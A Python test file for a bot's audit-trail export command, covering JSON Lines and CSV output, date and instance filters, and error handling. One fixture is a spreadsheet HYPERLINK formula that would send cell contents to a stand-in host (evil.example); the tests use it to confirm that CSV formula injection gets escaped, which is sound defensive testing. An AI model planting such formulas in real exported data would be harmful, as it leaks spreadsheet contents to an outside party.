"""`python -m bot audit` as a real process: the shared trail (Redis) or a state file, as JSON Lines or CSV."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

from bot.core.redis_state import RedisBackedStore
from bot.core.store import StateStore
from tests.conftest import INSTANCE_ID, OTHER_ID
from tests.harness import ALICE, BOB, INCIDENTS
from tests.processes import free_port

ROOT = Path(__file__).resolve().parent.parent
JAN = datetime(2026, 1, 15, 9, 30, tzinfo=UTC).timestamp()
MAR = datetime(2026, 3, 2, 17, 0, 0, 250000, tzinfo=UTC).timestamp()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def export(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    """The export with only these settings: no Slack token, no DBSS credential."""
    return subprocess.run(
        [sys.executable, "-m", "bot", "audit", *args],
        env={"PATH": os.environ.get("PATH", ""), "PYTHONPATH": str(ROOT), **env},
        cwd=ROOT / "tests",  # no .env there
        capture_output=True,
        text=True,
        timeout=60,
    )


class Clock:
    """The stores' clock, set by the test: it dates the entries."""

    def __init__(self) -> None:
        self.now = JAN

    def __call__(self) -> float:
        return self.now


def fill(store: StateStore, clock: Clock, at: float, *, cid: str, instance_id: str, detail: str | None = None) -> None:
    clock.now = at
    store.record(
        "reboot_result",
        correlation_id=cid,
        user_id=ALICE,
        instance_id=instance_id,
        channel=INCIDENTS,
        thread_ts="1700000000.000101",
        outcome="accepted",
        dbss_request_id=f"rid-{cid}",
        detail=detail,
    )


def two_replicas(tmp_path: Path, redis_url: str) -> tuple[str, str]:
    """Three entries in the shared trail, from two replicas; their audit names."""
    clock = Clock()
    a = RedisBackedStore.from_url(tmp_path / "a.sqlite3", redis_url, clock=clock)
    b = RedisBackedStore.from_url(tmp_path / "b.sqlite3", redis_url, clock=clock)
    try:
        fill(a, clock, JAN, cid="jan", instance_id=INSTANCE_ID)
        fill(b, clock, MAR, cid="mar", instance_id=OTHER_ID, detail=FORMULA)
        clock.now = MAR + 60
        b.record("refused", correlation_id="mar2", user_id=BOB, channel=INCIDENTS, outcome="refused", detail="-1+2")
        return a.audit_name, b.audit_name
    finally:
        a.close()
        b.close()


def test_jsonl_export_of_the_shared_trail_with_filters(tmp_path: Path, redis_url: str) -> None:
    """JSON Lines, oldest first, every field with the time as ISO-8601 UTC and epoch and the replica; --since
    (a date, or a date-time) and --instance filter; only BOT_STATE_PATH and REDIS_URL are set."""
    name_a, name_b = two_replicas(tmp_path, redis_url)
    env = {"REDIS_URL": redis_url, "BOT_STATE_PATH": str(tmp_path / "export.sqlite3")}

    done = export(env)
    assert done.returncode == 0, done.stderr
    rows = [json.loads(line) for line in done.stdout.splitlines()]
    assert [r["correlation_id"] for r in rows] == ["jan", "mar", "mar2"]
    assert rows[0] == {
        "at": "2026-01-15T09:30:00.000000Z",
        "at_epoch": JAN,
        "correlation_id": "jan",
        "event": "reboot_result",
        "user_id": ALICE,
        "instance_id": INSTANCE_ID,
        "channel": INCIDENTS,
        "thread_ts": "1700000000.000101",
        "outcome": "accepted",
        "dbss_request_id": "rid-jan",
        "detail": None,
        "region": None,
        "replica": name_a,
    }
    assert rows[1]["replica"] == name_b and rows[1]["detail"] == FORMULA, "JSON is data: nothing is altered"
    assert not (tmp_path / "export.sqlite3").exists(), "reading the shared trail creates no state file"

    since = export(env, "--since", "2026-03-02")
    assert [json.loads(line)["correlation_id"] for line in since.stdout.splitlines()] == ["mar", "mar2"]
    later = export(env, "--since", "2026-03-02T17:00:30")
    assert [json.loads(line)["correlation_id"] for line in later.stdout.splitlines()] == ["mar2"]
    offset = export(env, "--since", "2026-03-02T18:00:00+01:00")  # 17:00 UTC
    assert [json.loads(line)["correlation_id"] for line in offset.stdout.splitlines()] == ["mar", "mar2"]
    one = export(env, "--instance", INSTANCE_ID, "--format", "jsonl")
    assert [json.loads(line)["correlation_id"] for line in one.stdout.splitlines()] == ["jan"]


def test_csv_export_escapes_formulas(tmp_path: Path, redis_url: str) -> None:
    """CSV with a header row; a cell starting with = + - @ gets a leading quote, so a spreadsheet shows text."""
    two_replicas(tmp_path, redis_url)
    done = export({"REDIS_URL": redis_url}, "--format", "csv", "--since", "2026-02-01")
    assert done.returncode == 0, done.stderr
    header, *rows = list(csv.reader(io.StringIO(done.stdout)))
    assert header == [
        "at",
        "at_epoch",
        "correlation_id",
        "event",
        "user_id",
        "instance_id",
        "channel",
        "thread_ts",
        "outcome",
        "dbss_request_id",
        "detail",
        "region",
        "replica",
    ]
    assert [r[2] for r in rows] == ["mar", "mar2"]
    mar, mar2 = (dict(zip(header, r, strict=True)) for r in rows)
    assert mar["at"] == "2026-03-02T17:00:00.250000Z" and float(mar["at_epoch"]) == MAR
    assert mar["detail"] == "'" + FORMULA
    assert mar2["detail"] == "'-1+2" and mar2["instance_id"] == "", "absent fields are empty cells"


def test_an_empty_trail_exports_nothing(tmp_path: Path, redis_url: str) -> None:
    """A running Redis with no trail yet: no lines (JSON Lines), the header alone (CSV), exit 0."""
    jsonl = export({"REDIS_URL": redis_url})
    assert (jsonl.returncode, jsonl.stdout) == (0, "")
    table = export({"REDIS_URL": redis_url}, "--format", "csv")
    assert table.returncode == 0 and table.stdout.splitlines() == [
        "at,at_epoch,correlation_id,event,user_id,instance_id,channel,thread_ts,outcome,dbss_request_id,detail,region,replica"
    ]


def test_without_redis_the_state_file_is_exported(tmp_path: Path) -> None:
    """No REDIS_URL: the SQLite trail at BOT_STATE_PATH, filtered the same way (no replica column value)."""
    clock = Clock()
    store = StateStore(tmp_path / "state.sqlite3", clock=clock)
    fill(store, clock, JAN, cid="jan", instance_id=INSTANCE_ID)
    fill(store, clock, MAR, cid="mar", instance_id=OTHER_ID, detail="@SUM(A1)")
    store.close()
    env = {"BOT_STATE_PATH": str(tmp_path / "state.sqlite3")}
    done = export(env, "--since", "2026-02-01", "--format", "csv")
    assert done.returncode == 0, done.stderr
    header, row = list(csv.reader(io.StringIO(done.stdout)))
    values = dict(zip(header, row, strict=True))
    assert (values["correlation_id"], values["detail"], values["replica"]) == ("mar", "'@SUM(A1)", "")
    by_instance = export(env, "--instance", INSTANCE_ID)
    assert [json.loads(line)["correlation_id"] for line in by_instance.stdout.splitlines()] == ["jan"]


def test_bad_arguments_and_unreachable_state_are_clear(tmp_path: Path) -> None:
    """Bad arguments exit 2 naming the argument; a missing file or an unreachable Redis exit 1 with a fix, and
    the Redis password is never printed."""
    for args, expected in [
        (["--since", "last tuesday"], "--since: 'last tuesday' is not an ISO date"),
        (["--since", "2026-13-01"], "--since"),
        (["--instance", "not-an-id"], "--instance: 'not-an-id' is not a DBSS instance ID"),
        (["--format", "xml"], "invalid choice: 'xml'"),
    ]:
        done = export({"BOT_STATE_PATH": str(tmp_path / "state.sqlite3")}, *args)
        assert done.returncode == 2 and expected in done.stderr and done.stdout == "", args
        assert "Traceback" not in done.stderr
    wrong_mode = subprocess.run(
        [sys.executable, "-m", "bot", "check", "--since", "2026-01-01"],
        env={"PATH": os.environ.get("PATH", ""), "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert wrong_mode.returncode == 2 and "--since: only for `audit`" in wrong_mode.stderr

    missing = export({"BOT_STATE_PATH": str(tmp_path / "nowhere.sqlite3")})
    assert missing.returncode == 1 and "No state file at" in missing.stderr
    assert not (tmp_path / "nowhere.sqlite3").exists()

    down = export({"REDIS_URL": f"redis://:s3cret-pass@127.0.0.1:{free_port()}/0"})
    assert down.returncode == 1 and down.stdout == ""
    assert "Cannot read the shared audit trail at redis://127.0.0.1:" in down.stderr
    assert "unset REDIS_URL" in down.stderr and "s3cret-pass" not in down.stderr and "Traceback" not in down.stderr
